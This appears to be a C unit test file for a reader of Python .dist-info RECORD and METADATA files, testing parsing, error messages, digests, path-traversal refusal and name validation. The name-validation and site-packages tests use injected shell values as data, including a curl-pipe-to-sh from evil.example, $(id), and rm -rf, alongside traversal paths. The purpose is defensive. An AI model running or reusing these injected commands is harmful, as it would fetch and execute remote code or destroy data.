/*
 * test_dist: the .dist-info readers. RECORD rows as pip and Python's csv
 * write them (quoted paths, CRLF, the RECORD row itself), every kind of bad
 * row with its exact message, truncations, the resolver's refusals (absolute
 * paths, drives, streams, climbing out of the environment), digests;
 * METADATA with old-style `torch (==2.6.0)` and markers, folded lines,
 * truncated headers; and a site-packages on disk: RECORD-listed binaries, a
 * dist-info without RECORD (scanned another way, and said), a RECORD path
 * outside the environment (refused, said), a listed binary gone from disk.
 */
#include "harness.h"
#include "machine/dist.h"
#include "machine/view.h"
#include "util/strbuf.h"

#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static int rec(struct dist_record *r, const char *text, struct err *e)
{
	return dist_record_parse(r, text, strlen(text), "R", e);
}

static void test_record_rows(void)
{
	struct dist_record r;
	struct err e;
	CHECK_INT(rec(&r,
		      "torchvision/_C.pyd,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,658432\r\n"
		      "\"a,b/\"\"q\"\".pyd\",,\r\n"
		      "\n"
		      "../../Scripts/x.exe,sha256=AAAA,0\n"
		      "torchvision-0.21.0.dist-info/RECORD,,",
		      &e),
		  0);
	CHECK_INT(r.n, 4);
	if (r.n == 4) {
		CHECK_STR(r.v[0].path, "torchvision/_C.pyd");
		CHECK_STR(r.v[0].algo, "sha256");
		CHECK_STR(r.v[0].digest, "47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU");
		CHECK_INT(r.v[0].size, 658432);
		CHECK_STR(r.v[1].path, "a,b/\"q\".pyd");
		CHECK(r.v[1].algo == NULL && r.v[1].digest == NULL);
		CHECK_INT(r.v[1].size, -1);
		CHECK_INT(r.v[2].line, 4);
		CHECK_INT(r.v[3].line, 5);
		CHECK_STR(r.v[3].path, "torchvision-0.21.0.dist-info/RECORD");
	}
	dist_record_release(&r);
	CHECK_INT(rec(&r, "", &e), 0);
	CHECK_INT(r.n, 0);
	dist_record_release(&r);
}

static void test_record_bad_rows(void)
{
	static const struct {
		const char *text, *msg;
	} bad[] = {
		{ "a.py,sha256=x,1,extra\n", "R:1: 4 fields, expected path,hash,size" },
		{ "ok.py,,\na.py\n", "R:2: 1 fields, expected path,hash,size" },
		{ "\"a.py,sha256=x,1\n", "R:1: a quoted field is not closed" },
		{ ",,\n", "R:1: empty path" },
		{ "a\x01.py,,\n", "R:1: a control character (0x01) in a path" },
		{ "a.py,md5,1\n", "R:1: hash \"md5\" is not ALGORITHM=DIGEST" },
		{ "a.py,=abc,1\n", "R:1: hash \"=abc\" is not ALGORITHM=DIGEST" },
		{ "a.py,sha-256=abc,1\n", "R:1: hash algorithm is not a name" },
		{ "a.py,sha256=,1\n", "R:1: hash digest empty or too long" },
		{ "a.py,sha256=ab$c,1\n", "R:1: hash digest is not urlsafe base64" },
		{ "a.py,sha256=abc,-1\n", "R:1: size \"-1\" is not a byte count" },
		{ "a.py,sha256=abc,99999999999999999999\n", "R:1: size \"99999999999999999999\" is not a byte count" },
	};
	size_t i;
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		struct dist_record r;
		struct err e;
		CHECK_INT(rec(&r, bad[i].text, &e), -1);
		CHECK_STR(e.msg, bad[i].msg);
		CHECK_INT(r.n, 0);
	}
	{
		/* the path and digest checks go eight and four bytes at a time: a bad byte at every place of a
		   path of 1-24 bytes and of a 43-byte digest is found, and every byte of the alphabets passes */
		static const unsigned char ctl[] = { 0x01, 0x09, 0x1f, 0x7f };
		static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_=";
		size_t n, at, c;
		struct dist_record r;
		struct err e;
		for (n = 1; n <= 24; n++)
			for (at = 0; at < n; at++)
				for (c = 0; c < sizeof(ctl); c++) {
					char path[32], text[64], want[96];
					memset(path, 'a', n);
					path[n] = '\0';
					path[at] = (char)ctl[c];
					snprintf(text, sizeof(text), "%s,,\n", path);
					snprintf(want, sizeof(want), "R:1: a control character (0x%02x) in a path", ctl[c]);
					if (rec(&r, text, &e) != -1 || strcmp(e.msg, want))
						CHECK(!"a control byte in a path was not found");
				}
		/* bytes 0x20-0x7e and UTF-8 (0x80-0xff) are not control characters */
		{
			char text[300];
			size_t k = 0;
			for (c = 0x20; c < 0x100; c++)
				if (c != 0x7f && c != ',' && c != '"')
					text[k++] = (char)c;
			memcpy(text + k, ",,\n", 4);
			CHECK_INT(rec(&r, text, &e), 0);
			dist_record_release(&r);
		}
		for (at = 0; at < 43; at++) {
			char text[96];
			memset(text, 0, sizeof(text));
			memcpy(text, "a.py,sha256=", 12);
			for (c = 0; c < 43; c++)
				text[12 + c] = b64[(c * 7 + at) % (sizeof(b64) - 1)];
			memcpy(text + 55, ",1\n", 3);
			CHECK_INT(rec(&r, text, &e), 0);
			dist_record_release(&r);
			text[12 + at] = at % 2 ? '$' : '+';
			if (rec(&r, text, &e) != -1 || strcmp(e.msg, "R:1: hash digest is not urlsafe base64"))
				CHECK(!"a byte outside urlsafe base64 in a digest was not found");
		}
	}
	{
		struct dist_record r;
		struct err e;
		CHECK_INT(dist_record_parse(&r, "a\0b,,\n", 6, "R", &e), -1);
		CHECK_STR(e.msg, "R: a NUL byte: not a text file");
	}
	{
		/* a path longer than DIST_PATH_MAX */
		struct strbuf sb = STRBUF_INIT;
		struct dist_record r;
		struct err e;
		size_t k;
		for (k = 0; k < DIST_PATH_MAX + 1; k++)
			strbuf_addch(&sb, 'a');
		strbuf_adds(&sb, ",,\n");
		CHECK_INT(rec(&r, sb.buf, &e), -1);
		CHECK_STR(e.msg, "R:1: a path of 4097 bytes (more than 4096)");
		strbuf_release(&sb);
	}
}

/* Every prefix of a good RECORD is either a good RECORD or a clean error; never a crash. */
static void test_record_truncations(void)
{
	static const char good[] = "torch/lib/c10.dll,sha256=hFpEvkcpQCFOJNCyLqz4cEPwIfL8P1fxyGL2k6G8SNw,336896\r\n"
				   "\"x,y.pyd\",sha256=AAAA,1\r\ntorch-2.9.1.dist-info/RECORD,,\r\n";
	size_t n;
	for (n = 0; n <= sizeof(good) - 1; n++) {
		struct dist_record r;
		struct err e;
		char *t = xstrndup(good, n);
		if (dist_record_parse(&r, t, n, "R", &e) == 0)
			dist_record_release(&r);
		else
			CHECK(e.msg[0] == 'R');
		free(t);
	}
}

static void test_digest(void)
{
	unsigned char d[64];
	size_t n;
	struct err e;
	CHECK_INT(dist_digest_decode("47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU", d, sizeof(d), &n, &e), 0);
	CHECK_INT(n, 32);
	CHECK_INT(d[0], 0xe3);
	CHECK_INT(d[1], 0xb0);
	CHECK_INT(d[31], 0x55); /* sha256 of nothing: e3b0c442...b855 */
	CHECK_INT(dist_digest_decode("AAAA=", d, sizeof(d), &n, &e), 0);
	CHECK_INT(n, 3);
	CHECK_INT(dist_digest_decode("A", d, sizeof(d), &n, &e), -1);
	CHECK_STR(e.msg, "digest \"A\": 1 base64 characters is not a whole number of bytes");
	CHECK_INT(dist_digest_decode("AA$A", d, sizeof(d), &n, &e), -1);
	CHECK_STR(e.msg, "digest \"AA$A\": '$' is not base64");
	CHECK_INT(dist_digest_decode("AAAAAA", d, 2, &n, &e), -1);
	CHECK_STR(e.msg, "digest \"AAAAAA\": longer than 2 bytes");
	CHECK_INT(dist_digest_decode("AB", d, sizeof(d), &n, &e), -1);
	CHECK_STR(e.msg, "digest \"AB\": stray bits at the end");
}

static void test_resolve(void)
{
	static const char sp[] = "C:\\Py\\Lib\\site-packages", env[] = "C:\\Py";
	char *w = NULL;
	struct err e;
	CHECK_INT(dist_record_resolve(sp, env, "torchvision/_C.pyd", &w, &e), 0);
	CHECK_STR(w, "C:\\Py\\Lib\\site-packages\\torchvision\\_C.pyd");
	free(w);
	CHECK_INT(dist_record_resolve(sp, env, "../../Scripts/./x.exe", &w, &e), 0);
	CHECK_STR(w, "C:\\Py\\Scripts\\x.exe");
	free(w);
	CHECK_INT(dist_record_resolve(sp, env, "a//b\\c.dll", &w, &e), 0);
	CHECK_STR(w, "C:\\Py\\Lib\\site-packages\\a\\b\\c.dll");
	free(w);
	CHECK_INT(dist_record_resolve(sp, env, "../../../Windows/System32/msvcp140.dll", &w, &e), -1);
	CHECK_STR(e.msg, "\"../../../Windows/System32/msvcp140.dll\" climbs out of the environment C:\\Py");
	CHECK(w == NULL);
	CHECK_INT(dist_record_resolve(sp, env, "../..", &w, &e), -1);
	CHECK_STR(e.msg, "\"../..\" resolves outside the environment C:\\Py");
	CHECK_INT(dist_record_resolve(sp, env, "C:/Windows/x.dll", &w, &e), -1);
	CHECK_STR(e.msg, "\"C:/Windows/x.dll\" is absolute: outside the environment");
	CHECK_INT(dist_record_resolve(sp, env, "/etc/x.dll", &w, &e), -1);
	CHECK_INT(dist_record_resolve(sp, env, "\\\\server\\share\\x.dll", &w, &e), -1);
	CHECK_INT(dist_record_resolve(sp, env, "a/b:stream.dll", &w, &e), -1);
	CHECK_STR(e.msg, "\"a/b:stream.dll\": a ':' in a path component (a drive or a stream)");
	/* the environment is a folder, not a name prefix: C:\Py2 is not inside C:\Py */
	CHECK_INT(dist_record_resolve("C:\\Py2\\Lib\\site-packages", env, "x.dll", &w, &e), -1);
	CHECK_STR(e.msg, "C:\\Py2\\Lib\\site-packages is not inside C:\\Py");
	/* Windows drops the last component's trailing dots and spaces: one file, c10.dll */
	CHECK_INT(dist_record_resolve(sp, env, "torch/lib/c10.dll. .", &w, &e), 0);
	CHECK_STR(w, "C:\\Py\\Lib\\site-packages\\torch\\lib\\c10.dll");
	free(w);
	CHECK_INT(dist_record_resolve(sp, env, "torch/ . ", &w, &e), -1);
	CHECK_STR(e.msg, "\"torch/ . \": its last component is only dots and spaces");
	/* without an environment, the site-packages itself is the boundary */
	CHECK_INT(dist_record_resolve(sp, NULL, "../x.dll", &w, &e), -1);
}

static int md(struct dist_metadata *m, const char *text, struct err *e)
{
	return dist_metadata_parse(m, text, strlen(text), "M", e);
}

static void test_metadata(void)
{
	struct dist_metadata m;
	struct err e;
	char *x;
	CHECK_INT(md(&m,
		     "Metadata-Version: 2.1\r\nName: torchvision\r\nVersion: 0.21.0\r\n"
		     "Requires-Dist: numpy\r\nRequires-Dist: torch (==2.6.0)\r\n"
		     "Requires-Dist: pillow (!=8.3.*,>=5.3.0)\r\n"
		     "Requires-Dist: gdown (>=4.7.3) ; extra == 'gdown'\r\n"
		     "Requires-Dist: foo[a,b] >= 1 , < 2\r\nRequires-Dist: y @ https://e/x.whl ; python_version >= \"3.8\"\r\n"
		     "Summary: a folded\r\n  line\r\n\r\nRequires-Dist: not a header: the body\r\n",
		     &e),
		  0);
	CHECK_STR(m.name, "torchvision");
	CHECK_STR(m.version, "0.21.0");
	CHECK_INT(m.nrequires, 6);
	if (m.nrequires == 6) {
		CHECK_STR(m.requires[0].spec, "");
		CHECK_STR(m.requires[1].name, "torch");
		CHECK_STR(m.requires[1].spec, "==2.6.0");
		x = dist_require_exact(&m.requires[1]);
		CHECK_STR(x, "2.6.0");
		free(x);
		CHECK(dist_require_exact(&m.requires[2]) == NULL);
		CHECK_STR(m.requires[3].marker, "extra == 'gdown'");
		CHECK_STR(m.requires[4].extras, "a,b");
		CHECK_STR(m.requires[4].spec, ">=1,<2");
		CHECK_STR(m.requires[5].spec, "@ https://e/x.whl");
		CHECK(dist_require_exact(&m.requires[5]) == NULL);
		CHECK_INT(m.requires[1].line, 5);
	}
	dist_metadata_release(&m);
	CHECK_INT(md(&m, "Name: torchaudio\nVersion: 2.6.0\nRequires-Dist: torch==2.6.0\nRequires-Dist: x===1.0\n", &e), 0);
	if (m.nrequires == 2) {
		x = dist_require_exact(&m.requires[0]);
		CHECK_STR(x, "2.6.0");
		free(x);
		x = dist_require_exact(&m.requires[1]);
		CHECK_STR(x, "1.0");
		free(x);
	}
	dist_metadata_release(&m);
}

static void test_metadata_bad(void)
{
	static const struct {
		const char *text, *msg;
	} bad[] = {
		{ "Name: x\n", "M: no Version: header (truncated?)" },
		{ "Version: 1\n", "M: no Name: header (truncated?)" },
		{ "Name: x\nVersion: 1 0\n", "M:2: Version \"1 0\" is not a version" },
		{ "Name: x\nVersion: 1\nno colon here\n", "M:3: expected a \"Name: value\" header line" },
		{ " folded first\n", "M:1: a continuation line before any header" },
		{ "Name: x\nVersion: 1\nRequires-Dist: (==1)\n", "M:3: Requires-Dist does not start with a project name" },
		{ "Name: x\nVersion: 1\nRequires-Dist: torch (==2.6.0\n",
		  "M:3: Requires-Dist \"torch (==2.6.0\" is not a PEP 508 requirement" },
		{ "Name: x\nVersion: 1\nRequires-Dist: torch ==2.6.0 $\n",
		  "M:3: Requires-Dist \"torch ==2.6.0 $\" is not a PEP 508 requirement" },
		{ "Name:\nVersion: 1\n", "M:1: empty Name" },
	};
	size_t i;
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		struct dist_metadata m;
		struct err e;
		CHECK_INT(md(&m, bad[i].text, &e), -1);
		CHECK_STR(e.msg, bad[i].msg);
		CHECK(m.name == NULL && m.nrequires == 0);
	}
}

/* A UTF-8 byte-order mark (an editor's save) is not part of the first path or header. */
static void test_bom(void)
{
	struct dist_record r;
	struct dist_metadata m;
	struct err e;
	CHECK_INT(rec(&r, "\xEF\xBB\xBFtorch/_C.pyd,,\n", &e), 0);
	CHECK_INT(r.n, 1);
	if (r.n == 1)
		CHECK_STR(r.v[0].path, "torch/_C.pyd");
	dist_record_release(&r);
	CHECK_INT(md(&m, "\xEF\xBB\xBFName: torch\nVersion: 2.9.1\n", &e), 0);
	CHECK_STR(m.name, "torch");
	dist_metadata_release(&m);
}

static void test_names(void)
{
	static const char *const good[] = { "torch", "PyQt5-Qt5", "a", "zope.interface", "x_y", "A1" };
	static const char *const bad[] = { "", "hx; curl -s https://evil.example/x|sh; echo", "-x", "x-", ".x",
					   "x y", "x\"", "x$(id)", "x`id`", "x\ny" };
	size_t i;
	for (i = 0; i < sizeof(good) / sizeof(good[0]); i++)
		CHECK(dist_name_valid(good[i]));
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		CHECK(!dist_name_valid(bad[i]));
	CHECK(dist_version_valid("2.9.1+cu126") && !dist_version_valid("1.0; rm -rf x") && !dist_version_valid(""));
	char *n = dist_name_normalize("PyQt5_Qt5");
	CHECK_STR(n, "pyqt5-qt5");
	free(n);
	n = dist_name_normalize("A.-_b");
	CHECK_STR(n, "a-b");
	free(n);
	CHECK(dist_name_eq("torch-vision", "Torch_Vision"));
	CHECK(!dist_name_eq("torchvision", "torch"));
	/* dist_name_eq compares without normalising into new strings: it must answer what comparing
	   dist_name_normalize's strings answers, for every pair, separators leading, trailing and in runs */
	{
		static const char *const names[] = { "", "-", "._-", "a", "A", "a-", "-a", "_a_", "a-b", "a_b", "a.b",
						     "a--b", "a-_.b", "ab", "a-bc", "ab-c", "a-b-", "A-B", "a-b.c",
						     "abc", "ab_", "torch", "Torch_", "torch-vision", "torchvision" };
		size_t x, y, nn = sizeof(names) / sizeof(names[0]);
		for (x = 0; x < nn; x++)
			for (y = 0; y < nn; y++) {
				char *na = dist_name_normalize(names[x]), *nb = dist_name_normalize(names[y]);
				if (dist_name_eq(names[x], names[y]) != !strcmp(na, nb))
					CHECK(!"dist_name_eq differs from comparing dist_name_normalize");
				free(na);
				free(nb);
			}
	}
}

static void put(const char *root, const char *rel, const char *text)
{
	char *p = xasprintf("%s/%s", root, rel), *cmd = xasprintf("mkdir -p \"$(dirname '%s')\"", p);
	FILE *f;
	if (system(cmd)) {
	}
	f = fopen(p, "wb");
	if (f) {
		fputs(text, f);
		fclose(f);
	}
	free(cmd);
	free(p);
}

static const char *joined(const struct strlist *l)
{
	static struct strbuf sb = STRBUF_INIT;
	size_t i;
	strbuf_release(&sb);
	for (i = 0; i < l->n; i++)
		strbuf_addf(&sb, "%s%s", i ? "|" : "", l->v[i]);
	return sb.buf;
}

static void test_site_packages(void)
{
	char root[] = "/tmp/tdc-dist.XXXXXX", outside[] = "/tmp/tdc-dist-out.XXXXXX", *cmd;
	struct view *v = NULL;
	struct dist_set s;
	struct err e;
	const struct dist *d;
	if (!mkdtemp(root)) {
		SKIP("mkdtemp failed");
		return;
	}
#define SP "Py/Lib/site-packages/"
	put(root, SP "torchvision-0.21.0.dist-info/METADATA", "Name: torchvision\nVersion: 0.21.0\nRequires-Dist: torch (==2.6.0)\n\nbody");
	put(root, SP "torchvision-0.21.0.dist-info/RECORD",
	    "torchvision/_C.pyd,,\ntorchvision/image.pyd,,\ntorchvision/gone.pyd,,\ntorchvision/__init__.py,,\n"
	    "../../../Windows/evil.dll,,\nC:/abs.dll,,\ntorchvision-0.21.0.dist-info/RECORD,,\n");
	put(root, SP "torchvision/_C.pyd", "x");
	put(root, SP "torchvision/image.pyd", "x");
	/* letter case RECORD does not share with the disk (found through the view), and a link out of the tree */
	put(root, SP "cased-1.0.dist-info/METADATA", "Name: cased\nVersion: 1.0\n");
	put(root, SP "cased-1.0.dist-info/RECORD", "Cased/Mod.PYD,,\nlinked/evil.pyd,,\n");
	put(root, SP "cased/mod.pyd", "x");
	{
		/* a folder outside the tree, linked from inside it: never followed */
		char *link = xasprintf("%s/" SP "linked", root);
		if (mkdtemp(outside)) {
			put(outside, "evil.pyd", "x");
			if (symlink(outside, link)) {
			}
		}
		free(link);
	}
	/* no RECORD: found by walking top_level.txt's folder */
	put(root, SP "norecord-1.0.dist-info/METADATA", "Name: norecord\nVersion: 1.0\n");
	put(root, SP "norecord-1.0.dist-info/top_level.txt", "nr\n");
	put(root, SP "nr/sub/a.pyd", "x");
	put(root, SP "nr/b.txt", "x");
	/* a Name that is not a distribution name: read, and said to be invalid */
	put(root, SP "hx-1.0.dist-info/METADATA", "Name: hx; curl -s https://evil.example/x|sh; echo\nVersion: 1.0\n");
	put(root, SP "hx-1.0.dist-info/RECORD", "");
	/* a RECORD that is not one, and no METADATA */
	put(root, SP "broken-2.0.dist-info/RECORD", "a,b,c,d\n");
	put(root, SP "broken/x.dll", "x");
	if (view_open_root(&v, root, &e)) {
		printf("# %s\n", e.msg);
		CHECK(0);
		return;
	}
	CHECK_INT(dist_set_read(&s, v, "C:\\Py\\Lib\\site-packages", NULL, &e), 0);
	CHECK_STR(s.env_root, "C:\\Py");
	CHECK_INT(s.n, 5);
	d = dist_set_find(&s, "hx; curl -s https://evil.example/x|sh; echo");
	CHECK(d != NULL);
	if (d)
		CHECK_HAS(joined(&d->notes), "not a valid distribution: its name \"hx; curl -s https://evil.example/x|sh; "
					     "echo\" or version is not one PEP 508 allows; no command names it");
	d = dist_set_find(&s, "TorchVision");
	CHECK(d != NULL);
	if (d) {
		CHECK(d->has_record && d->has_metadata);
		CHECK_INT(d->nfiles, 7);
		CHECK_STR(joined(&d->binaries), "C:\\Py\\Lib\\site-packages\\torchvision\\_C.pyd|"
						"C:\\Py\\Lib\\site-packages\\torchvision\\image.pyd");
		CHECK_STR(joined(&d->tops), "torchvision");
		CHECK_STR(joined(&d->notes),
			  "2 RECORD paths refused, not checked: RECORD line 5: \"../../../Windows/evil.dll\" climbs out of "
			  "the environment C:\\Py|1 binary listed in RECORD but not on disk (removed after install?): "
			  "C:\\Py\\Lib\\site-packages\\torchvision\\gone.pyd");
		CHECK(d->scan_note == NULL);
	}
	d = dist_set_find(&s, "nr"); /* by top-level name */
	CHECK(d != NULL);
	if (d) {
		CHECK_STR(d->name, "norecord");
		CHECK(!d->has_record);
		CHECK_STR(joined(&d->binaries), "C:\\Py\\Lib\\site-packages\\nr\\sub\\a.pyd");
		CHECK_STR(d->scan_note, "no RECORD: its binaries were found by walking C:\\Py\\Lib\\site-packages\\{nr} "
					"(the names from top_level.txt) for .pyd and .dll files");
	}
	d = dist_set_find(&s, "broken");
	CHECK(d != NULL);
	if (d) {
		CHECK_STR(d->version, "2.0");
		CHECK(!d->has_metadata && !d->has_record);
		CHECK_STR(joined(&d->binaries), "C:\\Py\\Lib\\site-packages\\broken\\x.dll");
		CHECK_HAS(d->scan_note, "RECORD unreadable (C:\\Py\\Lib\\site-packages\\broken-2.0.dist-info\\RECORD:1: 4 "
					"fields, expected path,hash,size): its binaries were found by walking");
		CHECK_HAS(joined(&d->notes), "METADATA unreadable (C:\\Py\\Lib\\site-packages\\broken-2.0.dist-info\\METADATA: "
					     "not found): name and version taken from the folder name");
	}
	d = dist_set_find(&s, "cased");
	CHECK(d != NULL);
	if (d) {
		CHECK_STR(joined(&d->binaries), "C:\\Py\\Lib\\site-packages\\Cased\\Mod.PYD");
		CHECK_STR(joined(&d->binaries_host), ""); /* the view found it, not the fast path */
		CHECK_HAS(joined(&d->notes), "1 binary listed in RECORD but not on disk (removed after install?): "
					     "C:\\Py\\Lib\\site-packages\\linked\\evil.pyd");
	}
	d = dist_set_find(&s, "torchvision");
	if (d && d->binaries_host.n == 2)
		CHECK_HAS(d->binaries_host.v[0], "/Py/Lib/site-packages/torchvision/_C.pyd");
	CHECK(dist_set_find(&s, "absent") == NULL);
	dist_set_release(&s);
	CHECK_INT(dist_set_read(&s, v, "C:\\Nowhere", NULL, &e), -1);
	view_free(v);
	cmd = xasprintf("rm -rf %s %s", root, outside);
	if (system(cmd)) {
	}
	free(cmd);
}

int main(void)
{
	RUN(test_record_rows);
	RUN(test_record_bad_rows);
	RUN(test_record_truncations);
	RUN(test_digest);
	RUN(test_resolve);
	RUN(test_metadata);
	RUN(test_metadata_bad);
	RUN(test_bom);
	RUN(test_names);
	RUN(test_site_packages);
	return HARNESS_EXIT();
}
